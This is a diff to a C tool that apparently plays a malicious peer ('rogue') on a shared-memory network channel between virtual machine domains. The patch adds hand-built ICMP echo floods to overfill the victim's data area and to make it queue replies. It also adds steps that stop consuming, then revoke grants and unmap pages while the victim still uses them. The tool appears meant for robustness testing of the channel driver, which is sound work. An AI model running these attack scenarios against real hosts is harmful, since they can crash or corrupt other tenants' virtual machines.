@@ -884,6 +884,48 @@ static bool send_udp(struct rogue *r, uint32_t plen)
 	return true;
 }
 
+/*
+ * An ICMP echo request of @plen payload bytes to the victim: its reply
+ * comes back through the channel, so a few large ones fill the victim's
+ * data area whatever its TCP streams do (their windows shrink as soon as
+ * we stop consuming).
+ */
+static bool send_ping(struct rogue *r, uint32_t plen)
+{
+	uint32_t iplen = 28 + plen, i;
+	int err = 0;
+	uint8_t *p = xl_fifo_reserve(&r->tx, iplen, &err);
+	uint16_t c;
+
+	if (!p)
+		return false;
+	memset(p, 0, 28);
+	p[0] = 0x45;
+	p[2] = iplen >> 8;
+	p[3] = iplen & 0xff;
+	p[4] = r->ip_id >> 8;
+	p[5] = r->ip_id++ & 0xff;
+	p[8] = 64;
+	p[9] = IPPROTO_ICMP;
+	memcpy(p + 12, &r->src, 4);
+	memcpy(p + 16, &r->dst, 4);
+	c = csum_fold(csum_add(0, p, 20));
+	p[10] = c >> 8;
+	p[11] = c & 0xff;
+	p[20] = 8;		/* echo request */
+	p[24] = 0x58;		/* identifier "XR" */
+	p[25] = 0x52;
+	p[26] = r->seq >> 8;
+	p[27] = r->seq++ & 0xff;
+	for (i = 0; i < plen; i++)
+		p[28 + i] = pattern(r->seq, i);
+	c = csum_fold(csum_add(0, p + 20, 8 + plen));
+	p[22] = c >> 8;
+	p[23] = c & 0xff;
+	commit(r, iplen, XL_CSUM_NONE, XL_GSO_NONE, 0, 0, 0, 0, 0x0800);
+	return true;
+}
+
 /* Hand one of the victim's packets to our own stack, through lo. */
 static void inject(struct rogue *r, const struct xl_fifo_rec *rec)
 {
@@ -1251,6 +1293,7 @@ static void a_cons(struct rogue *r, int how)
 {
 	uint32_t vprod = le32toh(READ_ONCE(peer_ctrl(r)->tx_prod));
 	uint64_t t0 = now_ms();
+	int i;
 
 	/* Stop consuming: the victim must look at rx_cons to find room. */
 	r->freeze_rx = true;
@@ -1271,6 +1314,10 @@ static void a_cons(struct rogue *r, int how)
 		}
 		return;
 	}
+	/* Make the victim produce more than its area holds: it must look. */
+	for (i = 0; i < 4; i++)
+		send_ping(r, 60000);
+	publish(r);
 	kick(r->port);
 }
 
@@ -1345,12 +1392,21 @@ static void a_flip(struct rogue *r, int arg)
 	pthread_join(th, NULL);
 }
 
+/* Replies the victim must queue for us while we stop consuming. */
+static void provoke(struct rogue *r)
+{
+	r->freeze_rx = true;
+	send_ping(r, 30000);
+	send_ping(r, 30000);
+	publish(r);
+}
+
 /* End our grants and unmap the victim's pages while it uses them. */
 static void a_revoke(struct rogue *r, int arg)
 {
 	(void)arg;
+	provoke(r);
 	r->freeze_tx = true;
-	r->freeze_rx = true;
 	unmap_refs(&r->pdata);
 	unmap_refs(&r->pctrl);
 	grant_end(&r->data);
@@ -1364,8 +1420,8 @@ static void a_revoke(struct rogue *r, int arg)
 static void a_stall(struct rogue *r, int arg)
 {
 	(void)arg;
+	provoke(r);
 	r->freeze_tx = true;
-	r->freeze_rx = true;
 }
 
 static void a_vanish(struct rogue *r, int arg)
@@ -1548,6 +1604,7 @@ static int cmd_run(struct rogue *r, const char *mode)
 	r->self = self_domid();
 	if (r->self == r->victim)
 		die("the victim d%u is ourselves", r->victim);
+	printf("plan mode=%s variants=%zu\n", mode, n);
 	advertise();
 	handshake(r);
 	/* Time for the scenario to start its streams through the channel. */
